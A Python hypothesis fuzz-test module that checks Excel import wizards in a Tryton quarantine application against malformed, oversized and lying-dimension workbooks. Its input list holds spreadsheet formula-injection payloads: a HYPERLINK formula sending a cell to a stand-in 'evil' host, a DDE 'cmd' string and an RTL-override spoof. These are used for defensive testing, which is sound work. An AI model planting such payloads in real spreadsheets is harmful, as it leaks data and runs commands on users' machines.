"""Fuzz the Excel imports with malformed sheets (hypothesis).

Each generated workbook has a header made of the expected column titles,
unknown titles or nothing, and rows of cells of every type openpyxl
writes: text (control characters, RTL, emoji, very long), integers, huge
and negative numbers, floats, NaN-free decimals, dates, datetimes,
booleans and empty cells; or the "file" is random bytes.  Whatever comes,
the wizard either imports or refuses with a UserError (the message a user
sees) or with the error sheet, and a refused file writes nothing.

Texts that read as formulas come back as texts in the error sheet; dates in
the future never get in; sheets whose declared dimension is huge, sparse or
lying (A1:XFD150000, a million rows, a dimension smaller than the rows) are
refused while or before they are read, and the longest refusal is printed.
"""
import datetime as dt
import io
import re
import string
import time
import unittest
import zipfile

from hypothesis import (
    HealthCheck, example, given, settings, strategies as st)
from openpyxl import load_workbook

from trytond.exceptions import UserError
from trytond.modules.quarantine.arrival_import import COLUMNS as ARRIVALS
from trytond.modules.quarantine.lab_import import COLUMNS as RESULTS
from trytond.modules.quarantine.tests.tools import (
    ActivatedTestCase, active_site, savepoint, xlsx)
from trytond.modules.quarantine_supply.supplier_import import (
    NORM_COLUMNS, SUPPLIER_COLUMNS)
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction

SETTINGS = settings(max_examples=25, deadline=None, derandomize=True,
    suppress_health_check=list(HealthCheck))

TEXT = st.text(alphabet=st.characters(blacklist_categories=['Cs', 'Cc']),
    max_size=60) | st.text(alphabet=string.digits + 'Xx-', min_size=15,
    max_size=20) | st.just('x' * 5000) | st.sampled_from([
        "阴性", "阳性", "密切接触者", "超市", "kg", "粮食", "Grain",
        "91360781MA35F0000M", "110105198001011234", "‮evil", "=1+1",
        "A_x0001_B", "\t tab", '=HYPERLINK("http://evil/?"&B2,"x")',
        "+1+2", "-2+3", "@SUM(A1)", "\r=1", "=cmd|' /C calc'!A0"])
FORMULA = re.compile(r'^[=+\-@\t\r]')
CELL = st.none() | TEXT | st.integers(-10 ** 12, 10 ** 12) | st.floats(
    allow_nan=False, allow_infinity=False, width=32) | st.booleans() \
    | st.dates(dt.date(1900, 1, 1), dt.date(2100, 1, 1)) \
    | st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2100, 1, 1)) \
    | st.just(dt.date.today() + dt.timedelta(days=1)) \
    | st.just(dt.datetime.now() + dt.timedelta(hours=1))


def sheets(columns):
    "Workbooks with some of the columns' titles and random rows"
    titles = [title for _, title, _ in columns]
    header = st.lists(st.sampled_from(titles) | TEXT, max_size=10) | \
        st.permutations(titles).map(list)
    rows = st.lists(st.lists(CELL, max_size=12), max_size=25)
    return st.tuples(header, rows).map(workbook) | st.binary(max_size=300) \
        | st.tuples(header, rows, DIMENSIONS).map(stretched)


# Declared dimensions: huge, sparse, or smaller than the rows (lying)
DIMENSIONS = st.tuples(st.integers(1, 2_000_000), st.integers(1, 16384)) \
    | st.sampled_from([(150000, 16384), (1_000_000, 10), (1, 1)])


def stretched(header_rows_dimension):
    """A workbook whose sheet declares `dimension` (rows, columns), or,
    for a dimension smaller than it holds, lies"""
    header, rows, (max_row, max_column) = header_rows_dimension
    return with_dimension(workbook((header, rows)), max_row, max_column,
        far_cell=max_row > len(rows) + 1)


def with_dimension(data, max_row, max_column, far_cell=True, declare=None):
    """The workbook with its sheet declaring A1:<max_column><max_row> (or
    `declare`, a lie) and, with far_cell, a cell in that corner: a sparse
    sheet"""
    corner = f'{column_letter(max_column)}{max_row}'
    cell = (f'<row r="{max_row}"><c r="{corner}" t="inlineStr"><is><t>x'
        '</t></is></c></row>').encode() if far_cell else b''
    source = zipfile.ZipFile(io.BytesIO(data))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w', zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == 'xl/worksheets/sheet1.xml':
                content = re.sub(rb'<dimension ref="[^"]*"',
                    f'<dimension ref="{declare or "A1:" + corner}"'.encode(),
                    content).replace(b'</sheetData>', cell + b'</sheetData>')
            target.writestr(info.filename, content)
    return stream.getvalue()


def column_letter(number):
    letters = ''
    while number:
        number, remainder = divmod(number - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def workbook(header_rows):
    header, rows = header_rows
    return xlsx(header or None, rows)


def lying_sheet(rows):
    "A workbook declaring A1:A1 whose sheet holds `rows` rows of one cell"
    data = workbook(([title for _, title, _ in ARRIVALS], []))
    source = zipfile.ZipFile(io.BytesIO(data))
    stream = io.BytesIO()
    cells = ''.join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>x</t>'
        f'</is></c></row>' for i in range(2, rows + 2)).encode()
    with zipfile.ZipFile(stream, 'w', zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == 'xl/worksheets/sheet1.xml':
                content = re.sub(rb'<dimension ref="[^"]*"',
                    b'<dimension ref="A1:A1"', content).replace(
                    b'</sheetData>', cells + b'</sheetData>')
            target.writestr(info.filename, content)
    return stream.getvalue()


class FuzzImportsTestCase(ActivatedTestCase):
    "Malformed sheets: no crash, no traceback, no partial write"
    module = 'quarantine_supply'

    def counts(self):
        pool = Pool()
        return tuple(pool.get(m).search_count([]) for m in [
                'party.party', 'quarantine.stay', 'quarantine.sample',
                'quarantine.supply.contract', 'quarantine.supply.norm',
                'product.product'])

    slowest = (0, None)

    @classmethod
    def tearDownClass(cls):
        seconds, name = cls.slowest
        print(f"\nslowest fuzzed import: {seconds:.2f} s ({name})")
        super().tearDownClass()

    def in_the_future(self):
        "How many stays and samples hold a date in the future"
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Sample = pool.get('quarantine.sample')
        today = dt.date.today()
        return (Stay.search_count(['OR',
                    ('arrival_date', '>', today + dt.timedelta(days=1)),
                    ('exposure_date', '>', today)])
            + Sample.search_count([('collected_at', '>',
                        dt.datetime.now() + dt.timedelta(minutes=5))]))

    def run_wizard(self, name, values, data):
        "Return 'refused', 'errors' or 'imported'; nothing else may happen"
        start = time.perf_counter()
        try:
            return self._run_wizard(name, values, data)
        finally:
            seconds = time.perf_counter() - start
            if seconds > self.slowest[0]:
                type(self).slowest = (seconds, name)

    def _run_wizard(self, name, values, data):
        Wizard = Pool().get(name, type='wizard')
        session_id, _, _ = Wizard.create()
        wizard = Wizard(session_id)
        for key, value in dict(values, file=data).items():
            setattr(wizard.start, key, value)
        before = self.counts()
        try:
            with savepoint():
                state = wizard.transition_import_()
        except UserError as error:
            self.assertTrue(str(error))
            self.assertEqual(self.counts(), before)
            return 'refused'
        if state == 'errors':
            self.assertEqual(self.counts(), before)
            self.assertTrue(wizard.errors.summary)
            self.assertTrue(wizard.errors.report)
            self.assertNoFormula(wizard.errors.report)
            return 'errors'
        self.assertEqual(self.in_the_future(), 0)
        return 'imported'

    def assertNoFormula(self, report):
        "Every cell of the error sheet is a value: a formula stays a text"
        for sheet in load_workbook(io.BytesIO(report)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, 'f', cell.value)
                    if isinstance(cell.value, str) \
                            and FORMULA.match(cell.value):
                        self.assertEqual(cell.data_type, 's')

    @with_transaction()
    def test_arrival_lists(self):
        pool = Pool()
        Regime = pool.get('quarantine.regime')
        regime, = Regime.search([('code', '=', 'centralized_14')])
        site = active_site(rooms=5)
        outcomes = set()

        today = dt.date.today()

        @SETTINGS
        @given(sheets(ARRIVALS), st.sampled_from([dt.date(2022, 5, 10),
                    today, today + dt.timedelta(days=1),
                    today + dt.timedelta(days=2), dt.date(2150, 1, 1)]))
        # a row with a wrong check digit, whatever the draws (the draws
        # change with the template's columns)
        @example(workbook(([title for _, title, _ in ARRIVALS],
                    [["张三", "110105198001011235"]])), today)
        def check(data, arrival_date):
            outcomes.add(self.run_wizard('quarantine.stay.import', {
                        'arrival_date': arrival_date,
                        'regime': regime, 'site': site}, data))
        check()
        self.assertTrue({'refused', 'errors'} <= outcomes, outcomes)

    @with_transaction()
    def test_lab_sheets(self):
        outcomes = set()

        @SETTINGS
        @given(sheets(RESULTS))
        def check(data):
            outcomes.add(self.run_wizard(
                    'quarantine.sample.import', {}, data))
        check()
        self.assertTrue({'refused', 'errors'} <= outcomes, outcomes)

    @with_transaction()
    def test_oversized_sheets(self):
        """Every import refuses a sparse A1:XFD150000 sheet, a million
        declared rows and a lying dimension, with a message; the times are
        printed"""
        pool = Pool()
        Regime = pool.get('quarantine.regime')
        regime, = Regime.search([('code', '=', 'centralized_14')])
        site = active_site(code="FUZZ1", rooms=1)
        base = workbook(([title for _, title, _ in ARRIVALS],
                [["张三", "11010519491231002X"]]))
        lying = lying_sheet(45000)
        cases = [
            ('sparse A1:XFD150000', with_dimension(base, 150000, 16384)),
            ('1,000,000 rows declared', with_dimension(base, 1_000_000, 10)),
            ('lying A1:A1, 45,000 rows', lying),
            ('sparse XFD150000 declaring A1:J2', with_dimension(
                    base, 150000, 16384, declare='A1:J2')),
            ]
        wizards = [
            ('quarantine.stay.import', {'arrival_date': dt.date.today(),
                    'regime': regime, 'site': site}),
            ('quarantine.sample.import', {}),
            ('quarantine.supply.import', {'kind': 'suppliers'}),
            ('quarantine.supply.import', {'kind': 'norms'}),
            ('quarantine.supply.price.import', {}),
            ]
        for label, data in cases:
            for name, values in wizards:
                start = time.perf_counter()
                self.assertEqual(self.run_wizard(name, values, data),
                    'refused', (label, name))
                print(f"\n{label} ({len(data)} bytes), {name}: refused in "
                    f"{time.perf_counter() - start:.3f} s")

    @with_transaction()
    def test_supply_sheets(self):
        outcomes = set()
        for kind, columns in [('suppliers', SUPPLIER_COLUMNS),
                ('norms', NORM_COLUMNS)]:

            @SETTINGS
            @given(sheets(columns))
            def check(data):
                outcomes.add(self.run_wizard('quarantine.supply.import',
                        {'kind': kind}, data))
            check()
        self.assertTrue({'refused', 'errors'} <= outcomes, outcomes)


del ActivatedTestCase, unittest
